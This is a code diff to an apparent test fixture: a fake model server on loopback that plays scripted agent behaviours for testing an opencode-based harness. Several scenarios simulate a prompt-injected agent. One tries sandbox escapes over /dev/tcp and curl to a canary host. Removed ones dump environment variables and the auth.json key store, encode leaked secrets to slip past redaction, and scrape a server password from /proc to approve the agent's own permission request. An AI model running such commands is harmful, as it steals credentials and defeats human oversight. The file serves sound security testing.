@@ -1,5 +1,6 @@
-// A scripted OpenAI-compatible model server for the tests, the demo, the soak and the benchmarks.
-// It listens on loopback only. Which script it plays is chosen by a `scenario:NAME` token in the
+// A scripted OpenAI-compatible model server for --rehearse, `oc-exec scripted-model`, the demo, the
+// soak and the benchmarks; the tests add their own scripts (test/support/test-scripts.ts). It
+// listens on loopback only. Which script it plays is chosen by a `scenario:NAME` token in the
 // first user message, so one server can serve every test in a file, in parallel.
 import { existsSync } from "node:fs";
 import { createServer, type IncomingMessage, type ServerResponse } from "node:http";
@@ -26,7 +27,7 @@ export type Reply =
 
 type Usage = { prompt_tokens: number; completion_tokens: number };
 
-function messageText(content: unknown): string {
+export function messageText(content: unknown): string {
   if (typeof content === "string") return content;
   if (Array.isArray(content)) {
     return content
@@ -52,7 +53,7 @@ function toolResults(body: ChatRequest): ChatMessage[] {
 }
 
 /** 529 overloaded, as a provider says it, with opencode's own retries kept short (retry-after: 1). */
-const OVERLOADED: Reply = {
+export const OVERLOADED: Reply = {
   kind: "http",
   status: 529,
   headers: { "retry-after": "1" },
@@ -63,7 +64,7 @@ const OVERLOADED: Reply = {
  * Claims success without doing the work; sent back (a later user message: oc-exec's --verify
  * follow-up), it does it with a command and answers.
  */
-function verifyFix(body: ChatRequest): Reply {
+export function verifyFix(body: ChatRequest): Reply {
   const users = body.messages.flatMap((m, i) => (m.role === "user" ? [i] : []));
   if (users.length < 2) return { kind: "text", text: "Done, all good." };
   const fixed = body.messages.slice(users.at(-1)).some((m) => m.role === "tool");
@@ -72,17 +73,38 @@ function verifyFix(body: ChatRequest): Reply {
     : { kind: "tool", calls: [{ name: "bash", args: { command: "echo fixed > fixed.txt", description: "Fix" } }] };
 }
 
+/** What a script reads of the request it answers. */
+export type ScriptTurn = {
+  body: ChatRequest;
+  scenario: string;
+  /** The tool results the model has seen so far in this turn; `done`: there is one. */
+  results: ChatMessage[];
+  done: boolean;
+  /** The turn's first user message: its prompt. */
+  text: string;
+  /** How many requests of this turn (its first user message) the server has had, this one included. */
+  calls: number;
+};
+
+export function scriptTurn(body: ChatRequest, seen: readonly RecordedRequest[]): ScriptTurn {
+  const results = toolResults(body);
+  const text = firstUserText(body);
+  return {
+    body,
+    scenario: scenarioOf(body),
+    results,
+    done: results.length > 0,
+    text,
+    calls: seen.filter((r) => r.userText === text).length,
+  };
+}
+
 /**
  * The scripts. Each looks at the conversation so far and answers the next request; `seen` is every
  * request the server got, this one last (the scripts that play a provider failing for a while).
  */
 export function scriptedReply(body: ChatRequest, seen: readonly RecordedRequest[] = []): Reply {
-  const scenario = scenarioOf(body);
-  const results = toolResults(body);
-  const done = results.length > 0;
-  const text = firstUserText(body);
-  // How many requests of this turn (its first user message) the server has had, this one included.
-  const calls = seen.filter((r) => r.userText === text).length;
+  const { scenario, results, done, text, calls } = scriptTurn(body, seen);
   switch (scenario) {
     case "stall-once":
       // The first request never answers (a stream with no byte); any later one does.
@@ -93,18 +115,12 @@ export function scriptedReply(body: ChatRequest, seen: readonly RecordedRequest[
     case "retry-after-long":
       // Overloaded, and come back in an hour: opencode sleeps through such a wait on its own.
       return { ...OVERLOADED, headers: { "retry-after": "3600" } } as Reply;
-    case "overloaded":
-      // The primary model stays overloaded; any other model answers (what --fallback-model is for).
-      return body.model === "fake-model" ? OVERLOADED : { kind: "text", text: `Answered by ${body.model}.` };
     case "plain":
       return {
         kind: "text",
         text: "Hello from the scripted model.",
         usage: { prompt_tokens: 120, completion_tokens: 8 },
       };
-    case "echo-length":
-      // Proves the whole prompt arrived: answers with its length in characters and its last 20 chars.
-      return { kind: "text", text: `received ${text.length} chars ending ${JSON.stringify(text.slice(-20))}` };
     case "echo":
       return { kind: "text", text: `you said: ${text}` };
     case "tool":
@@ -121,45 +137,6 @@ export function scriptedReply(body: ChatRequest, seen: readonly RecordedRequest[
         : { kind: "tool", calls: [{ name: "write", args: { filePath: "notes.txt", content: "hello\n" } }] };
     case "verify-fix":
       return verifyFix(body);
-    case "verify-fix-stall":
-      // As verify-fix, but the first request of the repair (the second of the turn) never answers:
-      // a transient failure of the repair itself, for --retry to get past.
-      return calls === 2 ? { kind: "hang" } : verifyFix(body);
-    case "env-probe":
-      // The environment the agent's commands get and opencode's key store as they see it, written to
-      // a file: what reached them and what did not.
-      return done
-        ? { kind: "text", text: "Wrote probe-env.txt." }
-        : {
-            kind: "tool",
-            calls: [
-              {
-                name: "bash",
-                args: {
-                  // opencode's key store too, the file `opencode auth login` writes.
-                  command:
-                    'd=$XDG_DATA_HOME; [ -n "$d" ] || d=$HOME/.local/share; { env | sort; cat "$d/opencode/auth.json" 2>/dev/null; } > probe-env.txt',
-                  description: "Probe",
-                },
-              },
-            ],
-          };
-    case "bash-write":
-      // The work done by a command, not by a write tool: what a formatter or `eslint --fix` does.
-      return done
-        ? { kind: "text", text: "Fixed it with a command." }
-        : { kind: "tool", calls: [{ name: "bash", args: { command: "echo fixed > fixed.txt", description: "Fix" } }] };
-    case "unavailable-tool":
-      // A model that calls a tool the agent does not offer (edit, where the config denies it), gets
-      // opencode's `invalid` tool back, then does the work with bash and answers.
-      return results.length === 0
-        ? {
-            kind: "tool",
-            calls: [{ name: "edit", args: { filePath: "fixed.txt", oldString: "", newString: "fixed" } }],
-          }
-        : results.length === 1
-          ? { kind: "tool", calls: [{ name: "bash", args: { command: "echo fixed > fixed.txt", description: "Fix" } }] }
-          : { kind: "text", text: "Fixed it with bash." };
     case "empty":
       // A model that ends its turn without a word.
       return { kind: "text", text: "" };
@@ -168,83 +145,11 @@ export function scriptedReply(body: ChatRequest, seen: readonly RecordedRequest[
       return done
         ? { kind: "text", text: "There is no such file." }
         : { kind: "tool", calls: [{ name: "read", args: { filePath: "missing.txt" } }] };
-    case "read-outside":
-      return done
-        ? { kind: "text", text: "Could not read it." }
-        : { kind: "tool", calls: [{ name: "read", args: { filePath: "/etc/hostname" } }] };
-    case "sleep-tool":
-      return done
-        ? { kind: "text", text: "Slept." }
-        : {
-            kind: "tool",
-            calls: [
-              { name: "bash", args: { command: "sleep 300", description: "Sleep a long time", timeout: 600000 } },
-            ],
-          };
     case "escape":
       // A prompt-injected agent: one command that tries every way out of a sandbox, then reports.
       return done
         ? { kind: "text", text: "Tried everything." }
         : { kind: "tool", calls: [{ name: "bash", args: { command: escapeScript(text), description: "Escape" } }] };
-    case "attack": {
-      // A prompt-injected agent running the command the test gives it, base64 in `script=` (so any
-      // shell text survives the prompt), then answering with `answer=` (base64) when given: the
-      // attack tests' own payloads, one bash call each.
-      const script = /script=([A-Za-z0-9+/=]+)/.exec(text)?.[1];
-      const answer = /answer=([A-Za-z0-9+/=]+)/.exec(text)?.[1];
-      const decode = (b64: string) => Buffer.from(b64, "base64").toString("utf8");
-      return done || !script
-        ? { kind: "text", text: answer ? leakBack(decode(answer), results) : "Attack done." }
-        : { kind: "tool", calls: [{ name: "bash", args: { command: decode(script), description: "Attack" } }] };
-    }
-    case "no-such-model":
-      // A provider that does not serve the model asked for, and says so quoting its name, as OpenAI's
-      // `model_not_found` does: what a tool can make a provider send back.
-      return {
-        kind: "http",
-        status: 404,
-        body: {
-          error: {
-            message: `The model \`${body.model}\` does not exist or you do not have access to it.`,
-            type: "invalid_request_error",
-            param: null,
-            code: "model_not_found",
-          },
-        },
-      };
-    case "self-approve":
-      // A prompt-injected agent on a server: it looks for the server's password and, with what it
-      // found, uses the server's API (`api=HOST:PORT` in the prompt) to approve a permission request.
-      return done
-        ? { kind: "text", text: "Tried the server's API." }
-        : {
-            kind: "tool",
-            calls: [{ name: "bash", args: { command: selfApproveScript(text), description: "Self-approve" } }],
-          };
-    case "question":
-      // The question tool asks the user; in a headless turn nobody answers, and the model goes on.
-      return done
-        ? { kind: "text", text: "Nobody answered; I picked the default." }
-        : {
-            kind: "tool",
-            calls: [
-              {
-                name: "question",
-                args: {
-                  questions: [
-                    {
-                      question: "Which color should the button be?",
-                      header: "Color",
-                      options: [
-                        { label: "red", description: "Red" },
-                        { label: "blue", description: "Blue" },
-                      ],
-                    },
-                  ],
-                },
-              },
-            ],
-          };
     case "loop-tools":
       // An agent that never stops calling tools: what budgets exist for.
       return {
@@ -294,30 +199,11 @@ export function scriptedReply(body: ChatRequest, seen: readonly RecordedRequest[
       return { kind: "text", text: "A slow answer, after five seconds.", delayMs: 5000 };
     case "slow":
       return { kind: "text", text: "Finally.", delayMs: 30_000 };
-    case "gated": {
-      // Answers only once the file named by `gate:PATH` exists: a test decides when a turn ends,
-      // so what it watches in between is not a race against the clock.
-      const gate = /gate:(\S+)/.exec(text)?.[1];
-      return { kind: "text", text: "The gate opened.", ...(gate ? { until: gate } : {}) };
-    }
     case "hang":
       return { kind: "hang" };
     default:
       return { kind: "text", text: `unknown scenario ${scenario}` };
   }
-}
-
-/**
- * An attacking model's answer, with what its tool printed after `LEAK:` put back in: `{leak}` as
- * it came, `{leak:reversed}` and `{leak:base64}` transformed, as a model that saw a secret in its
- * context would write it to get it past redaction.
- */
-function leakBack(answer: string, results: ChatMessage[]): string {
-  const leak = /LEAK:(\S+)/.exec(results.map((m) => messageText(m.content)).join("\n"))?.[1] ?? "";
-  return answer
-    .replaceAll("{leak}", leak)
-    .replaceAll("{leak:reversed}", [...leak].reverse().join(""))
-    .replaceAll("{leak:base64}", Buffer.from(leak, "utf8").toString("base64"));
 }
 
 /**
@@ -365,37 +251,6 @@ function escapeScript(prompt: string): string {
       `exec 3<>/dev/tcp/${host}/${port} && printf 'GET /tcp HTTP/1.0\\r\\n\\r\\n' >&3 && timeout 5 cat <&3`,
     ),
     attempt(`dns canary.localhost:${port}`, `curl -sf -m 5 http://canary.localhost:${port}/dns`),
-  ].join("\n");
-}
-
-/**
- * The `self-approve` scenario's command. It looks for the server's password in its environment, in
- * every process's environment, and checks whether opencode's memory is open to it; then, with what
- * it found, it lists the server's sessions and makes a session of its own whose bash calls need
- * approval, prompts it, approves the request that comes and waits for the approved command to run.
- */
-function selfApproveScript(prompt: string): string {
-  const api = `http://${/api=([\w.-]+:\d+)/.exec(prompt)?.[1] ?? "127.0.0.1:4096"}`;
-  const json = "-H 'content-type: application/json'";
-  return [
-    `api=${api}; q="directory=$PWD"`,
-    // biome-ignore lint/suspicious/noTemplateCurlyInString: shell parameter expansion, not a template
-    'pw="${OPENCODE_SERVER_PASSWORD:-}"; from=environment',
-    `if [ -z "$pw" ]; then for f in /proc/[0-9]*/environ; do v=$({ tr '\\0' '\\n' < "$f"; } 2>/dev/null | sed -n 's/^OPENCODE_SERVER_PASSWORD=//p' | head -1); if [ -n "$v" ]; then pw=$v; from=$f; break; fi; done; fi`,
-    'if [ -n "$pw" ]; then echo "found the password in $from"; else echo "no password found"; fi',
-    `mem="not found"; for d in /proc/[0-9]*; do if { tr '\\0' ' ' < "$d/cmdline"; } 2>/dev/null | grep -Eq '^[^ ]*opencode[^ ]* serve '; then if ( exec 3< "$d/mem" ) 2>/dev/null; then mem=readable; else mem=refused; fi; break; fi; done; echo "opencode memory: $mem"`,
-    `code() { curl -s --noproxy "*" -o /dev/null -w '%{http_code}' -m 5 -u "opencode:$pw" "$@"; }`,
-    'echo "api sessions: HTTP $(code "$api/session?$q")"',
-    `sid=$(curl -s --noproxy "*" -m 5 -u "opencode:$pw" ${json} -d '{"title":"self-approve","permission":[{"permission":"bash","pattern":"*","action":"ask"}]}' "$api/session?$q" | grep -o '"id":"[^"]*"' | head -1 | cut -d'"' -f4)`,
-    'if [ -z "$sid" ]; then echo "approve: no session of its own"; else',
-    `  curl -s --noproxy "*" -o /dev/null -m 5 -u "opencode:$pw" ${json} -d '{"parts":[{"type":"text","text":"scenario:tool"}]}' "$api/session/$sid/prompt_async?$q"`,
-    `  rid=""; for i in $(seq 100); do rid=$(curl -s --noproxy "*" -m 5 -u "opencode:$pw" "$api/permission?$q" | grep -o '"id":"[^"]*"' | head -1 | cut -d'"' -f4); [ -n "$rid" ] && break; sleep 0.2; done`,
-    '  if [ -z "$rid" ]; then echo "approve: nothing asked"; else',
-    `    echo "approve: HTTP $(code ${json} -d '{"reply":"once"}' "$api/permission/$rid/reply?$q")"`,
-    `    ran=no; for i in $(seq 100); do if curl -s --noproxy "*" -m 5 -u "opencode:$pw" "$api/session/$sid/message?$q" | grep -q '"status":"completed"'; then ran=yes; break; fi; sleep 0.2; done`,
-    '    echo "approved command ran: $ran"',
-    "  fi",
-    "fi",
   ].join("\n");
 }
 
